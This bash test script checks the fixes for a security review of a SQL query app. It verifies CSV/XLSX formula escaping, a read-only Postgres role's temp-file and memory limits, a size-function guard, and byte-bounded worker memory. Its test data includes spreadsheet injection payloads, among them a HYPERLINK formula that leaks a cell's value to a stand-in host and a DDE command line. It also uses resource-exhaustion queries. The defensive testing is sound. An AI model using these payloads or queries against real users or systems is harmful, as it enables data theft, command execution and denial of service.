#!/usr/bin/env bash
# 95_export_limits.sh: security review issue 14 on the real stack: formulas in CSV downloads, temp files and
# work_mem of the executor's role, the guard's call on pg_database_size/version, and worker memory bounded by bytes.
set -uo pipefail
: "${TOP:?}" "${BASE_URL:?}" "${ADMIN_USER:?}" "${ADMIN_PASS:?}" "${PGHOST:?}" "${PGPORT:?}"
ASKQL=${ASKQL:-$TOP/bin/askql}
T=$(mktemp -d); chmod 755 "$T"; trap 'rm -rf "$T"' EXIT
n=0
ok() { n=$((n + 1)); echo "ok $n - $1"; }
nok() { n=$((n + 1)); echo "not ok $n - $1"; [ -n "${2:-}" ] && echo "# $2"; }
check() { if eval "$2"; then ok "$1"; else nok "$1" "${3:-}"; fi; }
field() { grep -o "name=\"$1\" value=\"[^\"]*\"" | head -1 | sed 's/.*value="//; s/"$//'; }
signin() { # signin JAR NAME PASS -> the session's CSRF token
	local jar=$1 pre
	pre=$(curl -s -c "$jar" -b "$jar" "$BASE_URL/signin" | field csrf)
	curl -s -o /dev/null -c "$jar" -b "$jar" --data-urlencode "csrf=$pre" --data-urlencode "name=$2" \
		--data-urlencode "password=$3" "$BASE_URL/signin"
	curl -s -b "$jar" "$BASE_URL/" | field csrf
}
q() { psql -X -q -tA -d askql -v ON_ERROR_STOP=1 -v user="$ADMIN_USER" "$@"; }
# mkrun SQL: a finished run of the admin's holding SQL (what a download re-runs); prints its id
mkrun() {
	q -v sql="$1" <<'SQL' | head -1
INSERT INTO askql.runs(user_id, question, status, sql)
SELECT id, 'issue 14: ' || left(:'sql', 40), 'ok', :'sql' FROM askql.users WHERE name = :'user' RETURNING id
SQL
}
TOK=$("$ASKQL" user token "$ADMIN_USER" 2>/dev/null | tail -1)
A=$(signin "$T/admin" "$ADMIN_USER" "$ADMIN_PASS")
check "admin signed in, API token issued" "[ -n '$A' ] && [ -n '$TOK' ]"
api_get() { curl -s -m 60 -H "Authorization: Bearer $TOK" "$@"; }

# ---- 1. formulas in CSV downloads ----------------------------------------------------------
# text cells that a spreadsheet would run, a column named like a formula, negative numbers in a
# numeric column, and plain numbers as text (which must stay as they are)
FSQL="SELECT v.id, v.neg, v.txt AS \"=cmd\", v.numtext FROM (VALUES
 (1, -5, '=HYPERLINK(\"http://example.invalid/?\"&A1,\"details\")', '-5'),
 (2, -1.5, '+SUM(A1:A9)', '+7'),
 (3, 0, '-2+3', '-1e3'),
 (4, 2, '@SUM(1+1)*cmd|'' /C calc''!A0', 'plain'),
 (5, 3, chr(9) || '=1+1', 'a=b'),
 (6, 4, chr(13) || '=1+1', '')) AS v(id, neg, txt, numtext) ORDER BY v.id"
FID=$(mkrun "$FSQL")
curl -s -m 60 -b "$T/admin" -o "$T/web.csv" "$BASE_URL/runs/$FID/download?format=csv"
api_get -o "$T/api.csv" "$BASE_URL/api/runs/$FID/download?format=csv"
cat >"$T/csvcheck.py" <<'PY'
import csv, io, sys
raw = open(sys.argv[1], encoding="utf-8-sig", newline="").read()
rows = list(csv.reader(io.StringIO(raw, newline="")))
want_txt = ["'=HYPERLINK(\"http://example.invalid/?\"&A1,\"details\")", "'+SUM(A1:A9)", "'-2+3",
            "'@SUM(1+1)*cmd|' /C calc'!A0", "'\t'=1+1", "'\r=1+1"]
assert rows[0] == ["id", "neg", "'=cmd", "numtext"], rows[0]
assert [r[2] for r in rows[1:]] == want_txt, [r[2] for r in rows[1:]]
# numbers stay numbers: the numeric column untouched, plain numbers as text untouched
assert [r[1] for r in rows[1:]] == ["-5", "-1.5", "0", "2", "3", "4"], [r[1] for r in rows[1:]]
assert [r[3] for r in rows[1:]] == ["-5", "+7", "-1e3", "plain", "a=b", ""], [r[3] for r in rows[1:]]
PY
out=$(python3 "$T/csvcheck.py" "$T/web.csv" 2>&1)
check "web CSV download (cookie): 6 formula-like text cells and the '=cmd' column name start with ', numbers untouched" \
	"[ -z \"\$out\" ]" "$out"
out=$(python3 "$T/csvcheck.py" "$T/api.csv" 2>&1)
check "API CSV download: the same escaping" "[ -z \"\$out\" ]" "$out"
"$ASKQL" export --sql "$FSQL" -o - >"$T/cli.csv" 2>"$T/cli.err"
check "CLI export keeps raw values by default (a header '=cmd', a cell '=HYPERLINK(...')" \
	"head -1 '$T/cli.csv' | grep -q '^id,neg,=cmd,numtext' && grep -q '^1,-5,\"=HYPERLINK' '$T/cli.csv'" "$(head -c 300 "$T/cli.csv"; cat "$T/cli.err")"
"$ASKQL" export --sql "$FSQL" --escape-formulas -o "$T/cli_esc.csv" >"$T/cli_esc.log" 2>&1
out=$(python3 "$T/csvcheck.py" "$T/cli_esc.csv" 2>&1)
check "CLI export --escape-formulas escapes like the web" "[ -z \"\$out\" ]" "$out $(cat "$T/cli_esc.log")"
api_get -o "$T/f.json" "$BASE_URL/api/runs/$FID/download?format=json"
check "JSON download is not changed (the text is data there)" "python3 -c '
import json, sys
d = json.load(open(\"$T/f.json\"))
assert d[\"rows\"][0][\"=cmd\"].startswith(\"=HYPERLINK\") and d[\"rows\"][0][\"neg\"] == -5, d[\"rows\"][0]'"
api_get -o "$T/f.xlsx" "$BASE_URL/api/runs/$FID/download?format=xlsx"
unzip -p "$T/f.xlsx" xl/worksheets/sheet1.xml >"$T/sheet1.xml" 2>/dev/null
check "XLSX download: formula-like text is a text cell (inlineStr), no <f> formula anywhere, numbers numeric" \
	"grep -q '<c r=\"C2\" t=\"inlineStr\"><is><t>=HYPERLINK' '$T/sheet1.xml' && grep -q '<c r=\"C1\"[^>]*t=\"inlineStr\"><is><t>=cmd</t>' '$T/sheet1.xml' &&
	 ! grep -q '<f>' '$T/sheet1.xml' && grep -q '<c r=\"B2\"><v>-5</v>' '$T/sheet1.xml'" \
	"$(head -c 600 "$T/sheet1.xml")"
check "csv_escape_formulas is a setting of the conf table (on by default)" \
	"grep -q '{\"csv_escape_formulas\", \"1\",' '$TOP/app/util/conf.c'"

# ---- 2. temp files and sort memory of the executor's role -----------------------------------
lim=$(psql -X -q -tA -U askql_reader -d demo -c "SHOW temp_file_limit" 2>&1)
wm=$(psql -X -q -tA -U askql_reader -d demo -c "SHOW work_mem" 2>&1)
check "askql_reader logs in with a temp_file_limit ($lim) and work_mem ($wm) set for the role" \
	"[ -n '$lim' ] && [ '$lim' != -1 ] && [[ '$lim' =~ [0-9] ]] && [ -n \"\$(psql -X -q -tA -d postgres -c \"SELECT 1 FROM pg_db_role_setting s JOIN pg_roles r ON r.oid = s.setrole WHERE r.rolname = 'askql_reader' AND s.setconfig::text LIKE '%temp_file_limit=%' AND s.setconfig::text LIKE '%work_mem=%'\")\" ]"
out=$(psql -X -q -tA -U askql_reader -d demo -c "SET temp_file_limit = -1" 2>&1)
check "askql_reader cannot lift its temp_file_limit" "[[ \"\$out\" == *'permission denied'* ]]" "$out"
# the review's shape: a cartesian count(DISTINCT ...) whose sort spills ~320 MB (400 x 400 rows of 2 KB)
CART="SELECT count(DISTINCT repeat(md5((a.g * 1000 + b.g)::text), 64)) AS n FROM generate_series(1, 400) AS a(g), generate_series(1, 400) AS b(g)"
tb() { psql -X -q -tA -d demo -c "SELECT temp_bytes FROM pg_stat_database WHERE datname = 'demo'"; }
b0=$(tb); t0=$(date +%s%N)
"$ASKQL" export --sql "$CART" --format csv -o "$T/cart.csv" >"$T/cart.log" 2>&1
rc=$?; ms=$(( ($(date +%s%N) - t0) / 1000000 )); sleep 1; b1=$(tb)
check "a cartesian count(DISTINCT) through the executor stops at the limit: 53400 in ${ms} ms, temp bytes written $(( (b1 - b0) / 1048576 )) MB" \
	"[ $rc -ne 0 ] && grep -q '53400' '$T/cart.log' && [ ! -e '$T/cart.csv' ] && [ $ms -lt 20000 ]" "$(cat "$T/cart.log")"
CID=$(mkrun "$CART")
t0=$(date +%s%N)
c=$(api_get -o "$T/cart_web" -w '%{http_code}' "$BASE_URL/api/runs/$CID/download?format=csv")
ms=$(( ($(date +%s%N) - t0) / 1000000 ))
check "the same query as a web download is an error status before any byte ($c in ${ms} ms)" \
	"[ '$c' -ge 400 ] && [ $ms -lt 20000 ]" "$(head -c 300 "$T/cart_web")"
wmk=$("$ASKQL" explain --json "SELECT caseid FROM clinical_data_table" 2>/dev/null | grep -o '"work_mem_kb":[0-9]*' | cut -d: -f2)
check "every executor transaction runs with exec_work_mem_kb (explain sees work_mem = ${wmk:-?} kB)" "[ '${wmk:-0}' = '${ASKQL_EXEC_WORK_MEM_KB:-8192}' ]"
tt=$("$ASKQL" target test demo 2>&1)
check "askql target test shows the read-only role's limits" "grep -q 'read-only limits: *temp_file_limit [0-9]' <<<\"\$tt\" && ! grep -q 'no temp_file_limit' <<<\"\$tt\"" "$tt"

# ---- 3. the guard on version() and pg_database_size() (docs/executor-limits.md) ------------------
for s in "SELECT pg_database_size(current_database())" "SELECT pg_catalog.PG_DATABASE_SIZE('askql')" \
         "SELECT pg_tablespace_size('pg_default')" "SELECT g, pg_database_size('demo') FROM generate_series(1, 100000) g"; do
	out=$("$ASKQL" guard "$s" 2>&1); rc=$?
	check "guard refuses: $s" "[ $rc -eq 1 ] && grep -q 'pg_database_size\|pg_tablespace_size' <<<\"\$out\"" "$out"
done
out=$("$ASKQL" export --sql "SELECT version() AS v" --format csv -o - 2>&1)
check "version() stays allowed and runs (as current_setting('server_version') does)" "grep -q '^\"\?PostgreSQL ' <<<\"\$out\"" "$out"

# ---- 4. worker memory bounded by bytes, not only rows ----------------------------------------------
workers() { local f; for f in "$VAR"/run/pool.pid "$VAR"/run/pool-runs.pid "$VAR"/run/pool-downloads.pid; do [ -f "$f" ] && pgrep -P "$(cat "$f")"; done; }
# reset_peak: each worker's peak RSS starts again from its current size (clear_refs 5; ours, as root)
reset_peak() { local p; for p in $(workers); do echo 5 >"/proc/$p/clear_refs" 2>/dev/null; done; }
peak_kb() { local p; for p in $(workers); do awk '/^VmHWM/ {print $2}' "/proc/$p/status" 2>/dev/null; done | sort -n | tail -1; }
CAP_KB=65536   # the exports' goal (README, export benchmark): a worker under 64 MB
if [ -z "${VAR:-}" ] || [ -z "$(workers)" ] || ! echo 5 >"/proc/$(workers | head -1)/clear_refs" 2>/dev/null; then
	ok "# SKIP worker peak memory needs the stack's pool pids and root (VAR=${VAR:-unset})"
else
	# one page preview: a step-mode run whose SQL is edited (the executor fetches for the page, 4 MiB cap).
	# 5 rows of 40 MB: the whole FETCH (200 MB) stays under the role's temp_file_limit, so before the fix
	# the server sent it all and the worker held it
	WIDE="SELECT repeat('x', 40000000) AS x FROM generate_series(1, 5)"
	preview() { # preview SQL -> "run_id http_code"
		local loc id c
		loc=$(curl -s -o /dev/null -m 60 -w '%{redirect_url}' -b "$T/admin" --data-urlencode "csrf=$A" --data-urlencode mode=step \
			--data-urlencode "question=potassium results above 6.5 per case" "$BASE_URL/runs")
		id=${loc##*/runs/}
		c=$(curl -s -o /dev/null -m 120 -w '%{http_code}' -b "$T/admin" --data-urlencode "csrf=$A" --data-urlencode action=edit \
			--data-urlencode "sql=$1" "$BASE_URL/runs/$id/step")
		echo "$id $c"
	}
	reset_peak; before=$(peak_kb)
	read -r pid pc < <(preview "$WIDE")
	pk=$(peak_kb)
	st=$(q -c "SELECT status || ' ' || coalesce(output->>'row_count', '-') || ' ' || coalesce(output->>'truncated', '-')
		FROM askql.steps WHERE run_id = ${pid:-0} AND name = 'executor' ORDER BY seq LIMIT 1")
	check "page preview of 5 rows x 40 MB: truncated before any row ($st), worker peak $((pk / 1024)) MB (from $((before / 1024)) MB), under $((CAP_KB / 1024)) MB" \
		"[ '$pc' = 303 ] && [ '$st' = 'ok 0 true' ] && [ ${pk:-999999} -lt $CAP_KB ]" "run $pid: $pc, step: $st"
	# the review's own query: 5 rows of 60 MB (300 MB: the role's temp_file_limit may stop the server first)
	reset_peak
	read -r pid pc < <(preview "SELECT repeat('x', 60000000) FROM generate_series(1,5)")
	pk=$(peak_kb)
	st=$(q -c "SELECT status || ' ' || coalesce(output->>'row_count', '-') || ' ' || coalesce(output->>'truncated', coalesce(error, '-'))
		FROM askql.steps WHERE run_id = ${pid:-0} AND name = 'executor' ORDER BY seq LIMIT 1")
	check "page preview of the review's 5 x 60 MB: $st, worker peak $((pk / 1024)) MB (was 334 MB)" \
		"[ '$pc' = 303 ] && [ -n '$st' ] && [ ${pk:-999999} -lt $CAP_KB ]" "run $pid: $pc, step: $st"
	# downloads have no page cap: the row cap is exec_fetch_bytes (8 MiB)
	WID=$(mkrun "$WIDE")
	for fmt in csv xlsx; do
		reset_peak
		c=$(api_get -o "$T/wide.$fmt" -w '%{http_code}' "$BASE_URL/api/runs/$WID/download?format=$fmt")
		pk=$(peak_kb); sz=$(stat -c %s "$T/wide.$fmt" 2>/dev/null || echo 0)
		if [ $fmt = csv ]; then
			check "CSV download of 5 rows x 40 MB: cut before the first row (header only, $sz bytes), worker peak $((pk / 1024)) MB" \
				"[ '$c' = 200 ] && [ $sz -lt 64 ] && [ ${pk:-999999} -lt $CAP_KB ]" "status $c, $sz bytes"
		else
			check "XLSX download of the same: a workbook flagged truncated, worker peak $((pk / 1024)) MB" \
				"[ '$c' = 200 ] && unzip -p '$T/wide.xlsx' xl/worksheets/sheet2.xml | grep -c 'size limit' >/dev/null && [ ${pk:-999999} -lt $CAP_KB ]" "status $c, $sz bytes"
		fi
	done
	# wide rows under the cap still arrive whole, one at a time
	OKID=$(mkrun "SELECT g, repeat(chr(64 + g), 3000000) AS y FROM generate_series(1, 6) AS s(g) ORDER BY g")
	reset_peak
	c=$(api_get -o "$T/ok.csv" -w '%{http_code}' "$BASE_URL/api/runs/$OKID/download?format=csv")
	pk=$(peak_kb)
	check "CSV download of 6 rows x 3 MB (under the cap) is complete ($(stat -c %s "$T/ok.csv") bytes), worker peak $((pk / 1024)) MB" \
		"[ '$c' = 200 ] && [ \$(tr -d '\r' <'$T/ok.csv' | wc -l) = 7 ] && [ \$(grep -c FFFFFFFFFF '$T/ok.csv') = 1 ] && [ ${pk:-999999} -lt $CAP_KB ]" "status $c"
	code=$(curl -s -o /dev/null -w '%{http_code}' "$BASE_URL/signin")
	check "workers still serve afterwards" "[ '$code' = 200 ]"
fi
q -c "DELETE FROM askql.runs WHERE question LIKE 'issue 14: %'" >/dev/null 2>&1
echo "1..$n"
